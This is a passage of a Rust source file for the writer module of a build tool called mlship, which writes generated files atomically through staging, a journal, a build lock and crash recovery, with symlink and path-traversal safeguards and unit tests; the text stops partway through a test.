//! The writer: the only module that changes the file system.
//!
//! Takes: an [`Output`] and a folder. Gives: the folder holding exactly that tree, changed
//! atomically. One build at a time: [`lock`] takes an exclusive lock on the folder (a locked
//! file beside it, removed when the build ends) and finishes a build that was interrupted.
//! New files are staged in `.mlship-staging/`, then a journal naming every move and removal
//! is written with one rename; applying it renames files into place and removes the files the
//! previous lock listed that the new tree lacks. A crash at any point leaves the old tree or
//! (after the next run rolls the journal forward) the new one. This holds for process crashes
//! (SIGKILL, OOM, Ctrl-C); only the journal is fsynced, so after a power loss `mlship check`
//! may find the tree stale and `mlship build` repairs it. Nothing changed, nothing written.
//!
//! What the folder holds may come from anyone who can open a pull request, so every path is
//! checked before anything is staged, and again by a recovery before it moves a file:
//! - below the output folder, nothing on the way to a file mlship writes or removes may be a
//!   symlink, and nothing but a regular file is read, replaced or removed;
//! - a file is replaced or removed only while it is mlship's: its SHA-256 is the one the
//!   previous lock (or, in a recovery, the journal) gives it, or it is empty. A file the lock
//!   does not list, one edited since, and one that cannot be read are left alone, and the
//!   build stops with an error naming it;
//! - a folder where a file goes, or a file where a folder goes, stops the build before it
//!   writes anything.
//!
//! Every error names its file. A build that fails leaves no staging behind. [`create_new`]
//! writes `mlship init`'s starter files, never over an existing one.

#![allow(
    clippy::disallowed_methods,
    reason = "the writer is the one module that changes the file system"
)]

use crate::emit::{LOCK_FILE, Output};
use crate::names::sha256;
use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};

const STAGING: &str = ".mlship-staging";
const JOURNAL: &str = ".mlship-journal.json";
const JOURNAL_TMP: &str = ".mlship-journal.json.tmp";

#[derive(Debug, Default, PartialEq)]
pub struct Report {
    pub written: Vec<String>,
    pub removed: Vec<String>,
    pub unchanged: usize,
}

#[derive(serde::Serialize, serde::Deserialize)]
struct Journal {
    moves: Vec<String>,
    removes: Vec<String>,
    /// The SHA-256 of what each file a move replaces or a remove deletes held when the build
    /// looked at it: a recovery changes a file only while it still holds that.
    hashes: BTreeMap<String, String>,
}

/// An error that names `path`.
fn at(path: &Path) -> impl FnOnce(io::Error) -> io::Error + '_ {
    move |e| io::Error::new(e.kind(), format!("{}: {e}", path.display()))
}

/// Why mlship does not read, replace or remove what is at a path.
#[derive(Debug, Clone)]
enum Blocked {
    /// A symlink, on the way to the file or the file itself.
    Symlink(PathBuf),
    /// Something other than a folder where the path needs one.
    NotAFolder(PathBuf),
    /// A folder where the tree has a file.
    Folder(PathBuf),
    /// A fifo, socket or device: never opened.
    Special(PathBuf),
    /// A regular file that cannot be read, or a path that cannot be looked at.
    Unreadable(PathBuf, String),
}

impl Blocked {
    fn error(&self) -> io::Error {
        let (kind, text) = match self {
            Self::Symlink(p) => (
                io::ErrorKind::InvalidInput,
                format!(
                    "{} is a symlink; mlship does not write or remove files through symlinks in its output folder: remove it",
                    p.display()
                ),
            ),
            Self::NotAFolder(p) => (
                io::ErrorKind::AlreadyExists,
                format!(
                    "{} is a file where mlship needs a folder; move it away or delete it",
                    p.display()
                ),
            ),
            Self::Folder(p) => (
                io::ErrorKind::AlreadyExists,
                format!(
                    "{} is a folder where mlship writes a file; move it away or delete it",
                    p.display()
                ),
            ),
            Self::Special(p) => (
                io::ErrorKind::AlreadyExists,
                format!("{} is not a regular file; move it away or delete it", p.display()),
            ),
            Self::Unreadable(p, e) => (
                io::ErrorKind::AlreadyExists,
                format!(
                    "{} exists and was not written by mlship (it cannot be read: {e}); move it away or delete it",
                    p.display()
                ),
            ),
        };
        io::Error::new(kind, text)
    }

    /// How `check` says what is at `file` (the path this is about, or a folder on its way).
    fn reason(&self, file: &Path) -> &'static str {
        match self {
            Self::Symlink(p) if p == file => "a symlink",
            Self::Symlink(_) => "behind a symlink",
            Self::Folder(_) => "a folder",
            Self::NotAFolder(_) | Self::Special(_) => "not a regular file",
            Self::Unreadable(..) => "unreadable",
        }
    }
}

/// What is at a path below the output folder, looked at without following symlinks.
enum Found {
    Absent,
    /// A regular file, with its bytes.
    File(Vec<u8>),
    Blocked(Blocked),
}

/// Reads a regular file. Tests make chosen paths unreadable here, as a mode-000 file is to
/// anyone but root (and the tests run as root).
fn read_file(path: &Path) -> io::Result<Vec<u8>> {
    #[cfg(test)]
    if tests::UNREADABLE.lock().unwrap().iter().any(|p| p == path) {
        return Err(io::Error::from(io::ErrorKind::PermissionDenied));
    }
    fs::read(path)
}

/// The file at `path`, whose folders are known to be real: read only when it is a regular
/// file, so that a symlink is not followed and a fifo is not opened.
fn look_file(path: &Path) -> Found {
    match fs::symlink_metadata(path) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => Found::Absent,
        Err(e) => Found::Blocked(Blocked::Unreadable(path.into(), e.to_string())),
        Ok(m) if m.file_type().is_symlink() => Found::Blocked(Blocked::Symlink(path.into())),
        Ok(m) if m.is_dir() => Found::Blocked(Blocked::Folder(path.into())),
        Ok(m) if !m.is_file() => Found::Blocked(Blocked::Special(path.into())),
        Ok(_) => match read_file(path) {
            Ok(bytes) => Found::File(bytes),
            Err(e) => Found::Blocked(Blocked::Unreadable(path.into(), e.to_string())),
        },
    }
}

/// The folders on the way to files below a root, each looked at once.
struct Folders<'a> {
    root: &'a Path,
    /// Per folder (relative path): whether it exists, or why it is in the way.
    seen: HashMap<String, Result<bool, Blocked>>,
}

impl<'a> Folders<'a> {
    fn new(root: &'a Path) -> Self {
        Self {
            root,
            seen: HashMap::new(),
        }
    }

    /// Whether the folder `rel` exists as a real folder; `Err` when something else is there.
    fn folder(&mut self, rel: &str) -> Result<bool, Blocked> {
        if let Some(known) = self.seen.get(rel) {
            return known.clone();
        }
        let path = self.root.join(rel);
        let state = match fs::symlink_metadata(&path) {
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(false),
            Err(e) => Err(Blocked::Unreadable(path, e.to_string())),
            Ok(m) if m.file_type().is_symlink() => Err(Blocked::Symlink(path)),
            Ok(m) if m.is_dir() => Ok(true),
            Ok(_) => Err(Blocked::NotAFolder(path)),
        };
        self.seen.insert(rel.to_string(), state.clone());
        state
    }

    /// Whether every folder on the way to the file `rel` exists (`false` as soon as one does
    /// not); `Err` names the first that is a symlink or not a folder.
    fn on_the_way(&mut self, rel: &str) -> Result<bool, Blocked> {
        for (i, _) in rel.match_indices('/') {
            if !self.folder(&rel[..i])? {
                return Ok(false);
            }
        }
        Ok(true)
    }

    /// What is at each of `rels`: folders checked here, files looked at on several threads.
    fn look_all(&mut self, rels: &[&str]) -> Vec<Found> {
        let ways: Vec<Result<bool, Blocked>> = rels.iter().map(|rel| self.on_the_way(rel)).collect();
        let root = self.root;
        let items: Vec<(&str, Result<bool, Blocked>)> = rels.iter().copied().zip(ways).collect();
        each(&items, |(rel, way)| match way {
            Ok(true) => look_file(&root.join(rel)),
            Ok(false) => Found::Absent,
            Err(b) => Found::Blocked(b.clone()),
        })
    }
}

/// Whether the file at `path` (relative `rel`), holding `bytes`, may be replaced or removed,
/// with its hash: the lock file always; any other only when empty (it holds nothing to lose:
/// a power loss leaves files empty) or holding what `expected` (its hash in the lock or the
/// journal) says.
fn ours(path: &Path, rel: &str, bytes: &[u8], expected: Option<&String>) -> io::Result<String> {
    let hash = sha256(bytes);
    match expected {
        _ if rel == LOCK_FILE || bytes.is_empty() => Ok(hash),
        Some(e) if *e == hash => Ok(hash),
        Some(_) => Err(io::Error::new(
            io::ErrorKind::AlreadyExists,
            format!(
                "{} was changed since mlship wrote it (it does not match {LOCK_FILE}); restore it or delete it",
                path.display()
            ),
        )),
        None => Err(io::Error::new(
            io::ErrorKind::AlreadyExists,
            format!(
                "{} exists and was not written by mlship; move it away or delete it",
                path.display()
            ),
        )),
    }
}

/// The lock of the previous build, as file → SHA-256 (empty when there is none or it is not
/// a lock); `Err` when what is at its path must not be read (a symlink, a folder...).
fn locked_files(out: &Path) -> Result<BTreeMap<String, String>, Blocked> {
    let bytes = match look_file(&out.join(LOCK_FILE)) {
        Found::File(bytes) => bytes,
        Found::Absent => return Ok(BTreeMap::new()),
        Found::Blocked(b) => return Err(b),
    };
    let Ok(lock) = serde_json::from_slice::<serde_json::Value>(&bytes) else {
        return Ok(BTreeMap::new());
    };
    Ok(lock["files"]
        .as_object()
        .map(|m| {
            m.iter()
                .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
                .filter(|(k, _)| safe_rel(k) && k != LOCK_FILE)
                .collect()
        })
        .unwrap_or_default())
}

/// The bytes of every file the previous lock lists that is on disk, read as the writer reads:
/// through no symlink, regular files only.
pub fn read_previous(out: &Path) -> BTreeMap<String, Vec<u8>> {
    listed(out, &locked_files(out).unwrap_or_default())
}

fn listed(out: &Path, locked: &BTreeMap<String, String>) -> BTreeMap<String, Vec<u8>> {
    let rels: Vec<&str> = locked.keys().map(String::as_str).collect();
    let found = Folders::new(out).look_all(&rels);
    rels.into_iter()
        .zip(found)
        .filter_map(|(rel, f)| match f {
            Found::File(bytes) => Some((rel.to_string(), bytes)),
            Found::Absent | Found::Blocked(_) => None,
        })
        .collect()
}

/// A generated relative path that stays inside the output folder.
fn safe_rel(rel: &str) -> bool {
    !rel.is_empty()
        && !rel.starts_with('/')
        && rel.split('/').all(|c| !c.is_empty() && c != "." && c != "..")
        && !rel.contains('\\')
}

/// The tree's paths: inside the output folder, none of the names the writer keeps for itself,
/// and no file where another file needs a folder.
fn check_paths(tree: &Output) -> io::Result<()> {
    let invalid = |text: String| Err(io::Error::new(io::ErrorKind::InvalidInput, text));
    if let Some(bad) = tree.files.keys().find(|r| !safe_rel(r)) {
        return invalid(format!("refusing to write outside the output folder: {bad}"));
    }
    let reserved = |rel: &str| [STAGING, JOURNAL, JOURNAL_TMP].contains(&rel.split('/').next().unwrap_or(rel));
    if let Some(bad) = tree.files.keys().find(|r| reserved(r)) {
        return invalid(format!(
            "refusing to write {bad}: mlship keeps that name for its own use"
        ));
    }
    let folders: BTreeSet<&str> = tree
        .files
        .keys()
        .flat_map(|rel| rel.match_indices('/').map(move |(i, _)| &rel[..i]))
        .collect();
    match tree.files.keys().find(|rel| folders.contains(rel.as_str())) {
        Some(bad) => invalid(format!("refusing to write {bad}: the tree also has files under {bad}/")),
        None => Ok(()),
    }
}

/// The folder that holds `out`, and `out`'s name in it: where the lock and a first build go.
fn beside(out: &Path) -> io::Result<(PathBuf, String)> {
    let out = if out.file_name().is_some() {
        out.to_path_buf()
    } else {
        out.canonicalize().map_err(at(out))?
    };
    match (out.parent(), out.file_name()) {
        (Some(parent), Some(name)) => Ok((
            if parent.as_os_str().is_empty() {
                PathBuf::from(".")
            } else {
                parent.to_path_buf()
            },
            name.to_string_lossy().into_owned(),
        )),
        _ => Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!("{}: mlship needs an output folder inside another folder", out.display()),
        )),
    }
}

/// The exclusive lock on building into one folder: the file `.<name>.mlship-lock` beside it,
/// locked for as long as this value lives and removed when it is dropped.
struct BuildLock {
    path: PathBuf,
    _file: fs::File,
}

impl BuildLock {
    /// Waits for any other build into the same folder to end.
    fn take(path: PathBuf) -> io::Result<Self> {
        loop {
            match fs::symlink_metadata(&path) {
                Ok(m) if !m.is_file() || m.len() > 0 => {
                    return Err(io::Error::new(
                        io::ErrorKind::AlreadyExists,
                        format!(
                            "{} is not mlship's lock file (that is an empty file); move it away or delete it",
                            path.display()
                        ),
                    ));
                }
                Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(at(&path)(e)),
                _ => {}
            }
            let file = fs::OpenOptions::new()
                .read(true)
                .write(true)
                .create(true)
                .truncate(false)
                .open(&path)
                .map_err(at(&path))?;
            file.lock().map_err(at(&path))?;
            // The build that held the lock removed the file this one opened: lock the new one.
            if same_file(&file, &path).map_err(at(&path))? {
                return Ok(Self { path, _file: file });
            }
        }
    }
}

impl Drop for BuildLock {
    /// Removes the file while it is still locked (the file closes after this), so that a
    /// build waiting on it sees it was removed and takes a new one.
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.path);
    }
}

#[cfg(unix)]
fn same_file(file: &fs::File, path: &Path) -> io::Result<bool> {
    use std::os::unix::fs::MetadataExt;
    let open = file.metadata()?;
    match fs::symlink_metadata(path) {
        Ok(m) => Ok(m.dev() == open.dev() && m.ino() == open.ino()),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(false),
        Err(e) => Err(e),
    }
}

#[cfg(not(unix))]
fn same_file(_: &fs::File, path: &Path) -> io::Result<bool> {
    Ok(path.exists())
}

/// Removes whatever is at `path` (a folder with what it holds; a symlink itself, never what
/// it points to).
fn remove_any(path: &Path) -> io::Result<()> {
    let done = match fs::symlink_metadata(path) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(()),
        Err(e) => Err(e),
        Ok(m) if m.is_dir() => fs::remove_dir_all(path),
        Ok(_) => fs::remove_file(path),
    };
    done.map_err(at(path))
}

/// An output folder locked against other builds, with any interrupted build finished.
pub struct Locked {
    out: PathBuf,
    /// Where a first build is written before it is renamed to `out`.
    fresh: PathBuf,
    _lock: BuildLock,
}

/// Lock `out` for one build (waiting for any other build into it to end), then finish a build
/// that was interrupted there, if any.
pub fn lock(out: &Path) -> io::Result<Locked> {
    // One lock per folder however it is named: through a symlinked output folder or parent.
    let real = match fs::symlink_metadata(out) {
        Ok(m) if m.file_type().is_symlink() => out.canonicalize().unwrap_or_else(|_| out.to_path_buf()),
        _ => out.to_path_buf(),
    };
    let (parent, name) = beside(&real)?;
    fs::create_dir_all(&parent).map_err(at(&parent))?;
    let parent = parent.canonicalize().map_err(at(&parent))?;
    let lock = BuildLock::take(parent.join(format!(".{name}.mlship-lock")))?;
    let locked = Locked {
        out: out.to_path_buf(),
        fresh: parent.join(format!(".{name}.mlship-new")),
        _lock: lock,
    };
    // Left by a first build that was killed.
    remove_any(&locked.fresh)?;
    if locked.exists()? {
        locked.recover()?;
    }
    Ok(locked)
}

/// Lock `out` and write `tree` into it: [`lock`], then [`Locked::write`].
pub fn write(out: &Path, tree: &Output) -> io::Result<Report> {
    lock(out)?.write(tree)
}

impl Locked {
    /// Whether the output folder exists; `Err` when its path holds something else.
    fn exists(&self) -> io::Result<bool> {
        let out = &self.out;
        if let Err(e) = fs::symlink_metadata(out) {
            return if e.kind() == io::ErrorKind::NotFound {
                Ok(false)
            } else {
                Err(at(out)(e))
            };
        }
        // The output folder itself may be a symlink: the user chose it.
        match fs::metadata(out) {
            Ok(m) if m.is_dir() => Ok(true),
            Ok(_) => Err(io::Error::new(
                io::ErrorKind::AlreadyExists,
                format!("{} is not a folder", out.display()),
            )),
            Err(e) => Err(at(out)(e)),
        }
    }

    /// The files the previous build wrote that still hold what it wrote.
    pub fn previous(&self) -> BTreeMap<String, Vec<u8>> {
        let locked = locked_files(&self.out).unwrap_or_default();
        let mut files = listed(&self.out, &locked);
        files.retain(|rel, bytes| locked.get(rel) == Some(&sha256(bytes)));
        files
    }

    /// Make the folder hold exactly `tree`: nothing is staged until every path is checked.
    pub fn write(&self, tree: &Output) -> io::Result<Report> {
        check_paths(tree)?;
        if !self.exists()? {
            return self.write_fresh(tree);
        }
        let out = &self.out;
        let locked = locked_files(out).map_err(|b| b.error())?;
        let mut report = Report::default();
        let mut moves = Vec::new();
        let mut hashes = BTreeMap::new();
        let mut folders = Folders::new(out);
        let rels: Vec<&str> = tree.files.keys().map(String::as_str).collect();
        for (rel, found) in rels.iter().zip(folders.look_all(&rels)) {
            match found {
                Found::Absent => moves.push((*rel).to_string()),
                Found::File(bytes) if bytes == tree.files[*rel] => report.unchanged += 1,
                Found::File(bytes) => {
                    hashes.insert((*rel).to_string(), ours(&out.join(rel), rel, &bytes, locked.get(*rel))?);
                    moves.push((*rel).to_string());
                }
                Found::Blocked(b) => return Err(b.error()),
            }
        }
        let gone: Vec<&str> = locked
            .keys()
            .map(String::as_str)
            .filter(|k| !tree.files.contains_key(*k))
            .collect();
        let mut removes = Vec::new();
        for (rel, found) in gone.iter().zip(folders.look_all(&gone)) {
            match found {
                // A file where one of its folders was, or a folder where it was: the file is
                // not there to remove, and what is there is not mlship's.
                Found::Absent | Found::Blocked(Blocked::NotAFolder(_) | Blocked::Folder(_)) => {}
                Found::File(bytes) => {
                    hashes.insert((*rel).to_string(), ours(&out.join(rel), rel, &bytes, locked.get(*rel))?);
                    removes.push((*rel).to_string());
                }
                Found::Blocked(b) => return Err(b.error()),
            }
        }
        if moves.is_empty() && removes.is_empty() {
            return Ok(report);
        }
        // The lock is moved last: once it is in place, so is every file it lists.
        moves.sort_by_key(|r| r == LOCK_FILE);
        let journal = Journal { moves, removes, hashes };
        self.stage(tree, &journal)?;
        apply(out, &journal)?;
        report.written = journal.moves;
        report.removed = journal.removes;
        Ok(report)
    }

    /// Write the changed files into the staging folder, then commit the journal. On an error
    /// nothing is left behind.
    fn stage(&self, tree: &Output, journal: &Journal) -> io::Result<()> {
        let out = &self.out;
        let staging = out.join(STAGING);
        let tmp = out.join(JOURNAL_TMP);
        let done = (|| {
            remove_any(&staging)?;
            remove_any(&tmp)?;
            fs::create_dir(&staging).map_err(at(&staging))?;
            write_files(
                &staging,
                out,
                journal
                    .moves
                    .iter()
                    .map(|rel| (rel.as_str(), tree.files[rel].as_slice())),
            )?;
            write_synced(&tmp, &serde_json::to_vec(journal).expect("journal serializes"))?;
            fs::rename(&tmp, out.join(JOURNAL)).map_err(at(&out.join(JOURNAL)))
        })();
        if done.is_err() {
            let _ = remove_any(&tmp);
            let _ = remove_any(&staging);
        }
        done
    }

    /// Finish a build that stopped after writing its journal (checked by the rules of a
    /// build first); drop the staging of one that stopped before.
    fn recover(&self) -> io::Result<()> {
        let out = &self.out;
        let journal_path = out.join(JOURNAL);
        remove_any(&out.join(JOURNAL_TMP))?;
        match look_file(&journal_path) {
            Found::Absent => remove_any(&out.join(STAGING)),
            Found::Blocked(b) => Err(b.error()),
            Found::File(bytes) => match serde_json::from_slice::<Journal>(&bytes) {
                Ok(j) => {
                    check_journal(out, &j).map_err(|e| {
                        io::Error::new(
                            e.kind(),
                            format!(
                                "{e} (while finishing the interrupted build that {} records; delete that file to drop the build instead)",
                                journal_path.display()
                            ),
                        )
                    })?;
                    apply(out, &j)
                }
                // Not a journal mlship wrote: there is nothing to finish.
                Err(_) => {
                    remove_any(&journal_path)?;
                    remove_any(&out.join(STAGING))
                }
            },
        }
    }

    /// A first build into a folder that does not exist: write the tree beside it, then rename
    /// it into place, so the folder appears complete or not at all.
    fn write_fresh(&self, tree: &Output) -> io::Result<Report> {
        let tmp = &self.fresh;
        let done = (|| {
            fs::create_dir(tmp).map_err(at(tmp))?;
            write_files(
                tmp,
                &self.out,
                tree.files.iter().map(|(rel, bytes)| (rel.as_str(), bytes.as_slice())),
            )?;
            fs::rename(tmp, &self.out).map_err(at(&self.out))
        })();
        if done.is_err() {
            let _ = remove_any(tmp);
        }
        done?;
        Ok(Report {
            written: tree.files.keys().cloned().collect(),
            removed: Vec::new(),
            unchanged: 0,
        })
    }
}

/// A journal found on disk, by the rules of a build: every path inside the folder and through
/// no symlink (in the folder and in staging), and every file a move replaces or a remove
/// deletes still holding what the journal says it held.
fn check_journal(out: &Path, j: &Journal) -> io::Result<()> {
    if let Some(bad) = j.moves.iter().chain(&j.removes).find(|r| !safe_rel(r)) {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!("refusing to write outside the output folder: {bad}"),
        ));
    }
    let staging = out.join(STAGING);
    let mut folders = Folders::new(out);
    let mut staged = Folders::new(&staging);
    let staging_exists = folders.folder(STAGING).map_err(|b| b.error())?;
    for rel in &j.moves {
        // A move whose staged file is gone was done before the build stopped.
        let pending = staging_exists
            && staged.on_the_way(rel).map_err(|b| b.error())?
            && match look_kind(&staging.join(rel)) {
                Found::Absent => false,
                Found::File(_) => true,
                Found::Blocked(b) => return Err(b.error()),
            };
        if !pending {
            continue;
        }
        match folders.on_the_way(rel) {
            Ok(true) => {}
            Ok(false) => continue,
            Err(b) => return Err(b.error()),
        }
        match look_file(&out.join(rel)) {
            Found::Absent => {}
            Found::File(bytes) => {
                ours(&out.join(rel), rel, &bytes, j.hashes.get(rel))?;
            }
            Found::Blocked(b) => return Err(b.error()),
        }
    }
    for rel in &j.removes {
        match folders.on_the_way(rel) {
            Ok(true) => {}
            Ok(false) | Err(Blocked::NotAFolder(_)) => continue,
            Err(b) => return Err(b.error()),
        }
        match look_file(&out.join(rel)) {
            Found::Absent => {}
            Found::File(bytes) => {
                ours(&out.join(rel), rel, &bytes, j.hashes.get(rel))?;
            }
            Found::Blocked(b) => return Err(b.error()),
        }
    }
    Ok(())
}

/// Like [`look_file`], without reading the file (its bytes are empty).
fn look_kind(path: &Path) -> Found {
    match fs::symlink_metadata(path) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => Found::Absent,
        Err(e) => Found::Blocked(Blocked::Unreadable(path.into(), e.to_string())),
        Ok(m) if m.file_type().is_symlink() => Found::Blocked(Blocked::Symlink(path.into())),
        Ok(m) if m.is_dir() => Found::Blocked(Blocked::Folder(path.into())),
        Ok(m) if !m.is_file() => Found::Blocked(Blocked::Special(path.into())),
        Ok(_) => Found::File(Vec::new()),
    }
}

/// Move the staged files into place, remove the files to remove, drop the journal.
fn apply(out: &Path, j: &Journal) -> io::Result<()> {
    let staging = out.join(STAGING);
    let mut dirs = Dirs::default();
    for rel in &j.moves {
        let to = out.join(rel);
        dirs.make_parent(&to).map_err(at(&to))?;
        // A move that is missing from staging was done before a crash.
        match fs::rename(staging.join(rel), &to) {
            Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(at(&to)(e)),
            _ => {}
        }
    }
    for rel in &j.removes {
        let path = out.join(rel);
        match fs::remove_file(&path) {
            Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(at(&path)(e)),
            _ => remove_empty_parents(out, &path),
        }
    }
    let journal = out.join(JOURNAL);
    fs::remove_file(&journal).map_err(at(&journal))?;
    remove_any(&staging)
}

fn remove_empty_parents(out: &Path, file: &Path) {
    let mut dir: Option<PathBuf> = file.parent().map(Path::to_path_buf);
    while let Some(d) = dir {
        if d == out || fs::remove_dir(&d).is_err() {
            break;
        }
        dir = d.parent().map(Path::to_path_buf);
    }
}

/// Write `files` (relative path, bytes) under `root`, a folder this build made, naming each in
/// errors under `shown` (where it is going): each parent folder is created once, then the
/// files are created (never over anything) on several threads, since creating many small
/// files is the slow part of a large build.
fn write_files<'a>(root: &Path, shown: &Path, files: impl IntoIterator<Item = (&'a str, &'a [u8])>) -> io::Result<()> {
    let mut dirs = Dirs::default();
    let files: Vec<(PathBuf, PathBuf, &[u8])> = files
        .into_iter()
        .map(|(rel, bytes)| (root.join(rel), shown.join(rel), bytes))
        .collect();
    for (path, shown, _) in &files {
        dirs.make_parent(path).map_err(at(shown))?;
    }
    each(&files, |(path, shown, bytes)| {
        fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(path)
            .and_then(|mut f| f.write_all(bytes))
            .map_err(at(shown))
    })
    .into_iter()
    .collect()
}

/// `f` of every item, in order. Many items are split across up to four threads; few are done
/// on this one, where a thread would cost more than it saves.
fn each<T: Sync, R: Send>(items: &[T], f: impl Fn(&T) -> R + Sync) -> Vec<R> {
    const PER_THREAD: usize = 256;
    let threads = std::thread::available_parallelism()
        .map_or(1, |n| n.get())
        .min(4)
        .min(items.len().div_ceil(PER_THREAD));
    if threads <= 1 {
        return items.iter().map(f).collect();
    }
    let f = &f;
    std::thread::scope(|s| {
        let chunks: Vec<_> = items
            .chunks(items.len().div_ceil(threads))
            .map(|chunk| s.spawn(move || chunk.iter().map(f).collect::<Vec<R>>()))
            .collect();
        chunks
            .into_iter()
            .flat_map(|h| h.join().expect("a writer thread does not panic"))
            .collect()
    })
}

/// Creates each parent folder once (errors do not name it: callers name the file).
#[derive(Default)]
struct Dirs(HashSet<PathBuf>);

impl Dirs {
    fn make_parent(&mut self, path: &Path) -> io::Result<()> {
        if let Some(parent) = path.parent()
            && !self.0.contains(parent)
        {
            fs::create_dir_all(parent)?;
            self.0.insert(parent.to_path_buf());
        }
        Ok(())
    }
}

/// The journal is the commit point, so it alone is flushed to disk before the rename.
fn write_synced(path: &Path, bytes: &[u8]) -> io::Result<()> {
    let mut f = fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(path)
        .map_err(at(path))?;
    f.write_all(bytes).and_then(|()| f.sync_all()).map_err(at(path))
}

/// Files on disk that differ from the tree: (path, reason). Empty means up to date. Read as
/// the writer reads (through no symlink, regular files only). A file mlship wrote that the
/// spec now changes is "changed"; one `build` would refuse to replace is "edited by hand" or
/// "not written by mlship".
pub fn stale(out: &Path, tree: &Output) -> Vec<(String, &'static str)> {
    let locked = locked_files(out).unwrap_or_default();
    let mine = |rel: &str, bytes: &[u8]| ours(Path::new(""), rel, bytes, locked.get(rel)).is_ok();
    let mut folders = Folders::new(out);
    let mut diffs = Vec::new();
    let rels: Vec<&str> = tree.files.keys().map(String::as_str).collect();
    for (rel, found) in rels.iter().zip(folders.look_all(&rels)) {
        let why = match found {
            Found::Absent => "missing",
            Found::File(bytes) if bytes == tree.files[*rel] => continue,
            Found::File(bytes) if mine(rel, &bytes) => "changed",
            Found::File(_) if locked.contains_key(*rel) => "edited by hand",
            Found::File(_) => "not written by mlship",
            Found::Blocked(b) => b.reason(&out.join(rel)),
        };
        diffs.push(((*rel).to_string(), why));
    }
    let gone: Vec<&str> = locked
        .keys()
        .map(String::as_str)
        .filter(|k| !tree.files.contains_key(*k))
        .collect();
    for (rel, found) in gone.iter().zip(folders.look_all(&gone)) {
        let why = match found {
            Found::Absent | Found::Blocked(Blocked::NotAFolder(_) | Blocked::Folder(_)) => continue,
            Found::File(bytes) if mine(rel, &bytes) => "no longer generated",
            Found::File(_) => "edited by hand",
            Found::Blocked(b) => b.reason(&out.join(rel)),
        };
        diffs.push(((*rel).to_string(), why));
    }
    diffs
}

/// Creates one file that does not exist yet, with its parent folders: `mlship init`'s
/// starter files. Never overwrites and never follows a symlink at `path`: `Ok(false)` when
/// something is there already.
pub fn create_new(path: &Path, bytes: &[u8]) -> io::Result<bool> {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent)?;
    }
    match fs::OpenOptions::new().write(true).create_new(true).open(path) {
        Ok(mut f) => f.write_all(bytes).map(|()| true),
        Err(e) if e.kind() == io::ErrorKind::AlreadyExists => Ok(false),
        Err(e) => Err(e),
    }
}

/// Writes one file whole, replacing it atomically (a sibling temporary file renamed over it),
/// so a reader sees the old or the new bytes, never half: `mlship schema --out`. A symlink at
/// `path` is replaced, not followed.
pub fn write_file(path: &Path, bytes: &[u8]) -> io::Result<()> {
    let name = path.file_name().ok_or_else(|| io::Error::other("not a file path"))?;
    let tmp = path.with_file_name(format!(".{}.mlship-tmp", name.to_string_lossy()));
    let _ = fs::remove_file(&tmp);
    let written = fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(&tmp)
        .and_then(|mut f| f.write_all(bytes).and_then(|()| f.sync_all()));
    match written.and_then(|()| fs::rename(&tmp, path)) {
        Ok(()) => Ok(()),
        Err(e) => {
            let _ = fs::remove_file(&tmp);
            Err(e)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_single_file_is_replaced_whole_and_a_symlink_is_not_followed() {
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("elsewhere.json");
        fs::write(&target, "keep").unwrap();
        let path = dir.path().join("mlship.schema.json");
        std::os::unix::fs::symlink(&target, &path).unwrap();
        write_file(&path, b"new").unwrap();
        assert_eq!(fs::read_to_string(&path).unwrap(), "new");
        assert_eq!(
            fs::read_to_string(&target).unwrap(),
            "keep",
            "the link's target is untouched"
        );
        assert!(!fs::symlink_metadata(&path).unwrap().file_type().is_symlink());
        write_file(&path, b"newer").unwrap();
        assert_eq!(fs::read_to_string(&path).unwrap(), "newer");
        assert_eq!(
            fs::read_dir(dir.path()).unwrap().count(),
            2,
            "no temporary file is left"
        );
    }

    fn tree(files: &[(&str, &str)]) -> Output {
        Output {
            files: files
                .iter()
                .map(|(k, v)| ((*k).to_string(), v.as_bytes().to_vec()))
                .collect(),
        }
    }

    /// Paths whose reads fail as a mode-000 file's do for anyone but root.
    pub(super) static UNREADABLE: std::sync::Mutex<Vec<PathBuf>> = std::sync::Mutex::new(Vec::new());

    #[test]
    fn writes_removes_only_its_own_files_and_is_idempotent() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        fs::create_dir(&out).unwrap();
        fs::write(out.join("README.md"), "mine").unwrap();
        let first = built(&[("envs/a/x.yaml", "1"), ("envs/a/y.yaml", "2")]);
        let r = write(&out, &first).unwrap();
        assert_eq!(r.written.len(), 3);
        assert_eq!(r.written.last().unwrap(), LOCK_FILE);
        let again = write(&out, &first).unwrap();
        assert!(again.written.is_empty() && again.removed.is_empty());
        let second = built(&[("envs/a/x.yaml", "1b")]);
        let r = write(&out, &second).unwrap();
        assert_eq!(r.removed, vec!["envs/a/y.yaml".to_string()]);
        assert_eq!(fs::read_to_string(out.join("envs/a/x.yaml")).unwrap(), "1b");
        assert!(!out.join("envs/a/y.yaml").exists());
        assert_eq!(fs::read_to_string(out.join("README.md")).unwrap(), "mine");
        assert!(!out.join(STAGING).exists() && !out.join(JOURNAL).exists());
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 1, "the lock file is gone");
    }

    #[test]
    fn many_files_are_written_compared_and_found_stale_on_several_threads() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("deploy");
        let names: Vec<String> = (0..1000).map(|i| format!("envs/e{}/f{i}.yaml", i % 3)).collect();
        let build = |tag: &str, changed: Option<&str>| {
            let texts: Vec<(String, String)> = names
                .iter()
                .map(|n| {
                    (
